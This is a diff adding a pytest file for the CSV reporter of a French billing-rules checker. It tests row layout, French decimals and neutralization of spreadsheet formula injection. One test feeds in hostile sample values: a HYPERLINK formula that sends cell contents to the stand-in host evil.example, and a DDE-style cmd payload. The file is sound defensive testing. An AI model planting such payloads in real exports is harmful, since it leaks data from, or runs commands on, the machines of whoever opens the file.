@@ -1,0 +1,127 @@
+"""CSV report: one row per finding, French spreadsheet conventions, no formula injection."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from billing_rules.cli import main
+from billing_rules.model import Finding, InputError, Report, Severity
+from billing_rules.reporters import BUILTIN_REPORTERS
+from billing_rules.reporters.csv_report import BOM, COLUMNS, CsvReporter, neutralize
+
+EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "week-2026-01.csv"
+
+
+def finding(**overrides: object) -> Finding:
+    values: dict[str, object] = {
+        "rule": "IMT-ONCE",
+        "severity": Severity.ERROR,
+        "message": "IMT déjà facturée",
+        "invoice_id": "F-1",
+        "practitioner_id": "10001",
+        "patient_id": "P-1",
+        "date": dt.date(2024, 3, 4),
+        "line": 2,
+        "amount": Decimal("1234.5"),
+    }
+    values.update(overrides)
+    return Finding(**values)  # type: ignore[arg-type]
+
+
+def render(report: Report) -> str:
+    stream = io.StringIO()
+    CsvReporter().render(report, stream, color=True)
+    return stream.getvalue()
+
+
+def parse(text: str) -> list[dict[str, str]]:
+    assert text.startswith(BOM)
+    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))
+
+
+def test_registered() -> None:
+    assert BUILTIN_REPORTERS["csv"].name == "csv"
+
+
+def test_one_row_per_finding_french_decimals() -> None:
+    report = Report(
+        events=3,
+        findings=(
+            finding(),
+            finding(
+                rule="OPP-MEG",
+                severity=Severity.OPPORTUNITY,
+                amount=Decimal("5"),
+                suggestion="G+MEG",
+                invoice_id="F-2",
+            ),
+            finding(amount=None, rule="VL-CASE", severity=Severity.WARNING),
+        ),
+        input_errors=(),
+    )
+    text = render(report)
+    assert text.splitlines()[0] == BOM + ";".join(COLUMNS)
+    rows = parse(text)
+    assert len(rows) == 3
+    assert rows[0]["amount"] == "1234,50"
+    assert rows[1] == {
+        **rows[1],
+        "rule": "OPP-MEG",
+        "severity": "opportunity",
+        "suggestion": "G+MEG",
+        "amount": "5,00",
+    }
+    assert rows[2]["amount"] == ""
+    assert "\r\n" in text
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_formula_starts_are_neutralized(start: str) -> None:
+    assert neutralize(f"{start}1+1") == f"'{start}1+1"
+    assert neutralize("P=1") == "P=1"
+
+
+def test_hostile_values_never_reach_a_formula() -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
+    report = Report(
+        events=1,
+        findings=(
+            finding(
+                patient_id=hostile,
+                message="@SUM(1+1)*cmd|' /C calc'!A0",
+                invoice_id="-2+3",
+                suggestion="+G",
+                practitioner_id="\t=1",
+            ),
+        ),
+        input_errors=(InputError(line=4, field="date", message="=cmd", invoice_id="=x"),),
+    )
+    rows = parse(render(report))
+    assert rows[0]["patient_id"] == "'" + hostile
+    assert rows[0]["message"].startswith("'@")
+    assert rows[0]["invoice_id"] == "'-2+3"
+    assert rows[0]["suggestion"] == "'+G"
+    assert rows[0]["practitioner_id"] == "'\t=1"
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r"
+    assert rows[1]["severity"] == "input_error"
+    assert rows[1]["invoice_id"] == "'=x"
+    assert rows[1]["line"] == "4"
+
+
+def test_cli_csv_on_the_example() -> None:
+    result = CliRunner().invoke(main, ["check", str(EXAMPLE), "--format", "csv"])
+    assert result.exit_code == 1
+    rows = parse(result.stdout)
+    assert len(rows) == 21 + 4 + 9
+    assert sum(
+        Decimal(row["amount"].replace(",", ".")) for row in rows if row["severity"] == "error"
+    ) == Decimal("890.00")
